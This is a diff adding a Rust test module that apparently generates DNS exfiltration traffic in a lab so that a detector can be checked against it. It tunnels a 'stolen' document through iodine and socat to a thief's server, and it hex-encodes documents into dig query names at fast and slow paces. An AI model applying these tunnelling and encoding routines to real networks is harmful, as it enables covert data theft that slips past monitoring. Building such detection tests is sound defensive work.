@@ -1,0 +1,114 @@
+//! Theft through names: a whole tunnel, and plain queries whose labels are the document.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::net::IpAddr;
+use std::time::Duration;
+
+use anyhow::{Context, Result, ensure};
+use detector_tests::{poll_until, wait_for_udp_listener};
+
+use crate::lab::random::Random;
+use crate::lab::scene::{Outcome, Scene, Target, ensure_arrived, resolver};
+use crate::lab::sites::THIEF_NAME_SERVER;
+
+const START: Duration = Duration::from_secs(15);
+/// Up to here iodine's slowest record types need less than half a minute.
+const LARGEST_TUNNELLED: u64 = 60_000;
+const TUNNEL_SERVER: &str = "10.99.0.1";
+const TUNNEL_PORT: &str = "4000";
+
+/// A file over TCP over iodine, through a resolver or straight to the thief's server.
+pub(in crate::lab) fn iodine(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
+    let record = *random.pick(&["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]);
+    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
+    let size = random.size(8_000, LARGEST_TUNNELLED);
+    let zone = &scene.thief_zone;
+    let server = scene.internet().spawn("iodined", ["-f", "-c", "-l", THIEF_NAME_SERVER, "-P", "secret", TUNNEL_SERVER, zone])?;
+    wait_for_udp_listener(scene.internet(), 53, START)?;
+    server.wait_for_line("Listening to dns", START)?;
+    let client = scene.client().spawn("iodine", ["-f", "-r", "-T", record, "-P", "secret", through, zone])?;
+    client.wait_for_line("Connection setup complete", Duration::from_secs(40))?;
+    let got = scene.inbox("got");
+    let sink = format!("OPEN:{},creat", got.display());
+    let listen = format!("TCP-LISTEN:{TUNNEL_PORT},bind={TUNNEL_SERVER}");
+    let _receiver = scene.internet().spawn("socat", ["-u", &listen, &sink])?;
+    detector_tests::wait_for_tcp_listener(scene.internet(), 4000, START)?;
+    let file = format!("OPEN:{}", scene.document("stolen", &random.document(size))?);
+    scene.run("socat", &["-u", &file, &format!("TCP:{TUNNEL_SERVER}:{TUNNEL_PORT}")])?;
+    let length = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
+    poll_until(START * 3, || (length() >= size).then_some(())).ok();
+    ensure_arrived(size, length())?;
+    stolen(scene, through, size, format!("{size} bytes in {record} queries for {zone} through {through}"))
+}
+
+/// Hundreds of queries, as fast as dig asks them.
+pub(in crate::lab) fn fast_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
+    let size = random.size(6_000, 50_000);
+    carry(scene, random, size, &Pace { queries_at_once: 40, pause_secs: 0.0 })
+}
+
+/// One query now and then.
+pub(in crate::lab) fn slow_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
+    let size = random.size(300, 2_500);
+    let pause_secs = random.log_uniform(0.2, 1.0);
+    carry(scene, random, size, &Pace { queries_at_once: 1, pause_secs })
+}
+
+struct Pace {
+    queries_at_once: usize,
+    pause_secs: f64,
+}
+
+/// Sends the document as hexadecimal labels under the thief's zone and reads it back from the names
+/// that the thief's server was asked for.
+fn carry(scene: &Scene<'_>, random: &mut Random, size: usize, pace: &Pace) -> Result<Outcome> {
+    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
+    let style = *random.pick(&["address", "text", "nxdomain"]);
+    let log = scene.scratch.join("names.log");
+    let server = scene.start_script(scene.internet(), "dns_sink.py", &[THIEF_NAME_SERVER.to_owned(), log.display().to_string(), style.to_owned()])?;
+    server.wait_for_line("ready", START)?;
+    let document = random.document(size);
+    let names = names_of(&document, &scene.thief_zone, random.between(1, 3) as usize, random.between(16, 62) as usize);
+    let kind = if style == "text" { "TXT" } else { *random.pick(&["A", "A", "AAAA"]) };
+    for some in names.chunks(pace.queries_at_once) {
+        let list: String = some.iter().map(|name| format!("{name} {kind}\n")).collect();
+        let batch = scene.document("names", list.as_bytes())?;
+        scene.run("dig", &[&format!("@{through}"), "+short", "+tries=3", "+timeout=2", "-f", &batch])?;
+        std::thread::sleep(Duration::from_secs_f64(pace.pause_secs * random.uniform(0.5, 1.5)));
+    }
+    let arrived = read_back(&fs::read_to_string(&log).context("nobody asked the thief's server")?, &scene.thief_zone);
+    ensure!(arrived == document, "{size} bytes were sent in {} names and other ones arrived", names.len());
+    stolen(scene, through, size, format!("{size} bytes in {} {kind} queries for {} through {through}, answered with {style}", names.len(), scene.thief_zone))
+}
+
+/// `NUMBER.LABEL[.LABEL…].ZONE`, the labels of even length so that each holds whole bytes.
+fn names_of(document: &[u8], zone: &str, labels: usize, label_length: usize) -> Vec<String> {
+    let bytes_per_label = label_length / 2;
+    let name = |(number, part): (usize, &[u8])| {
+        let labels: Vec<String> = part.chunks(bytes_per_label).map(|bytes| bytes.iter().map(|byte| format!("{byte:02x}")).collect()).collect();
+        format!("{number:x}.{}.{zone}", labels.join("."))
+    };
+    document.chunks(bytes_per_label * labels).enumerate().map(name).collect()
+}
+
+/// The document from the names, whatever their order and however often each came.
+fn read_back(log: &str, zone: &str) -> Vec<u8> {
+    let parts: BTreeMap<usize, Vec<u8>> = log.lines().filter_map(|name| part_of(name, zone)).collect();
+    parts.into_values().flatten().collect()
+}
+
+fn part_of(name: &str, zone: &str) -> Option<(usize, Vec<u8>)> {
+    let (number, labels) = name.strip_suffix(zone)?.strip_suffix('.')?.split_once('.')?;
+    let digits: String = labels.split('.').collect();
+    let byte = |at: usize| u8::from_str_radix(digits.get(at..at + 2)?, 16).ok();
+    let bytes: Option<Vec<u8>> = (0..digits.len()).step_by(2).map(byte).collect();
+    Some((usize::from_str_radix(number, 16).ok()?, bytes?))
+}
+
+/// What the network sees is a client that tells its resolver.
+fn stolen(scene: &Scene<'_>, through: &str, size: usize, notes: String) -> Result<Outcome> {
+    let address: IpAddr = through.parse().with_context(|| format!("{through} is no address"))?;
+    let target = Target { host: through.to_owned(), address };
+    Ok(Outcome::stolen(scene.culprit(&target, "udp", Some(53))?, size, notes))
+}
